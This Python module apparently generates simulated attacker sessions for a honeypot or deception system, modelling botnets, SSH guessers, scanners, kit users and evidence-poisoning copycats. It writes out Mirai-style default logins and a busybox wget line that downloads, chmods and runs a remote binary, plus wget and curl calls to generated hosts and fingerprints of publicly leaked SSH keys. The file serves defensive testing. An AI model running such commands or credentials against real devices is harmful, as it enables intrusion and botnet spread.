# SPDX-License-Identifier: MIT
"""Everybody else: bots, guessers, scanners, users of kits, and those who poison evidence."""

from __future__ import annotations

from collections.abc import Iterator, Sequence
from random import Random
from typing import NamedTuple

from decnet_core.events.catalogue import (
    CommandRun,
    ConnectionOpened,
    FileCaptured,
    HttpClient,
    HttpRequest,
    LoginAttempt,
    Payload,
    PortScan,
    SessionClosed,
    SessionOpened,
    SshKex,
    TlsClient,
)
from planted import vocabulary as words
from planted.actors import Lease, stack
from planted.vocabulary import Kit

COMMON_KEYS = (
    "SHA256:1M4RzhMyWuFS/86uPY/ce2prh/dVTHW7iD2RhpquOZA",
    "SHA256:9prMbqhS4QteoFQ1ZRJDqSBLWoHXPyKB0iWR05Ghro4",
)
"""Keys whose private part is on the Web: Vagrant's, and that of F5's load balancers (CVE-2012-1493)."""


class Botnet(NamedTuple):
    """Infected devices that infect others with the same script."""

    token: str
    host: str
    hashes: tuple[str, ...]
    """By processor architecture."""

    @classmethod
    def of(cls, dice: Random) -> Botnet:
        return cls(words.word(dice, 2).upper(), words.hostname(dice), tuple(words.digits(dice, 64) for _ in range(3)))


class Bot(NamedTuple):
    """One infected device."""

    net: Botnet

    def payloads(self, dice: Random) -> Iterator[Payload]:
        yield ConnectionOpened("telnet")
        yield stack(words.stock_tools(dice))
        for user, password in dice.sample(words.MIRAI_LOGINS, dice.randrange(2, 6)):
            yield LoginAttempt("telnet", user, False, password=password)
        yield LoginAttempt("telnet", "root", True, password="xc3511")
        yield SessionOpened("telnet", "root")
        kind = dice.randrange(3)
        url = f"http://{self.net.host}/bins/{('mips', 'arm7', 'x86')[kind]}"
        lines = (
            *("enable", "system", "shell", "sh", f"/bin/busybox {self.net.token}", "cat /proc/mounts"),
            f"/bin/busybox wget {url} -O - > .d; chmod 777 .d; ./.d telnet; /bin/busybox {self.net.token}",
        )
        yield from (CommandRun("telnet", line) for line in lines)
        yield FileCaptured("telnet", self.net.hashes[kind], 60_000, None, url)
        yield SessionClosed("telnet", dice.randrange(3000, 20_000), len(lines))


class Guesser(NamedTuple):
    """A machine that walks a public password list from its beginning."""

    passwords: int

    def payloads(self, dice: Random) -> Iterator[Payload]:
        tools = words.stock_tools(dice)
        yield ConnectionOpened("ssh")
        yield stack(tools)
        yield SshKex("client", tools.ssh_software, tools.hassh, f"algorithms of {tools.hassh}")
        for user, password in words.public_list(self.passwords)[: dice.randrange(3, 12)]:
            yield LoginAttempt("ssh", user, False, password=password)
        if dice.random() < 0.05:
            yield LoginAttempt("ssh", "vagrant", False, "publickey", public_key=dice.choice(COMMON_KEYS))


class Scanner(NamedTuple):
    """Looks for open ports or for pages, and goes on."""

    web: bool

    def payloads(self, dice: Random) -> Iterator[Payload]:
        tools = words.stock_tools(dice)
        yield stack(tools)
        if not self.web:
            yield PortScan("syn", tuple(sorted(dice.sample(range(1, 9000), 5))), 5, dice.randrange(1, 9), 900, 20)
            return
        yield ConnectionOpened("http")
        if dice.random() < 0.4:
            yield TlsClient("tcp", words.digits(Random(tools.ja4), 32), tools.ja4, 0x0303)
        yield HttpClient("GET", "HTTP/1.1", "library", tools.headers, ("Host", "User-Agent"), tools.user_agent)
        for path in dice.sample(words.PATHS, dice.randrange(1, 5)):
            yield HttpRequest("GET", path, user_agent=tools.user_agent, status=404)


class Beginner(NamedTuple):
    """Uses a kit once, with a payload of a free host."""

    kit: Kit

    def payloads(self, dice: Random) -> Iterator[Payload]:
        tools = self.kit.tools
        yield ConnectionOpened("ssh")
        yield stack(tools)
        yield SshKex("client", tools.ssh_software, tools.hassh, f"algorithms of {tools.hassh}")
        for user, password in self.kit.logins:
            yield LoginAttempt("ssh", user, False, password=password)
        yield LoginAttempt("ssh", "root", True, password=dice.choice(words.COMMON_PASSWORDS))
        yield SessionOpened("ssh", "root")
        url = f"https://{dice.choice(words.FREE_HOSTS)}/{words.digits(dice, 12)}"
        yield from (CommandRun("ssh", line.replace("{url}", url)) for line in self.kit.lines)
        yield SessionClosed("ssh", 4000, len(self.kit.lines))


class Copycat(NamedTuple):
    """Shows marks of several people at once, so that they be taken for one."""

    victims: Sequence[Lease]

    def payloads(self, dice: Random) -> Iterator[Payload]:
        tools = words.stock_tools(dice)
        yield ConnectionOpened("ssh")
        yield SshKex("client", tools.ssh_software, tools.hassh, f"algorithms of {tools.hassh}")
        for victim in self.victims:
            yield LoginAttempt("ssh", "root", False, "publickey", public_key=victim.marks.key[0])
            for user, password in victim.marks.logins[:2]:
                yield LoginAttempt("ssh", user, False, password=password)
        yield LoginAttempt("ssh", "root", True, password="123456")
        yield SessionOpened("ssh", "root")
        for victim in self.victims:
            yield CommandRun("ssh", f"wget {victim.marks.url}")
            yield FileCaptured("ssh", victim.marks.sha256, 40_000, None, victim.marks.url)


class Flood(NamedTuple):
    """Shows as many different fingerprints, logins and commands as it can."""

    values: int

    def payloads(self, dice: Random) -> Iterator[Payload]:
        yield ConnectionOpened("ssh")
        yield SessionOpened("ssh", "root")
        for number in range(self.values):
            hassh = words.digits(dice, 32)
            yield SshKex("client", f"SSH-2.0-{words.word(dice)}", hassh, hassh)
            yield LoginAttempt("ssh", words.word(dice), False, password=words.word(dice))
            yield CommandRun("ssh", f"curl http://{words.hostname(dice)}/{words.word(dice)}")
            if number % 4 == 0:
                yield FileCaptured("ssh", words.digits(dice, 64), 10)
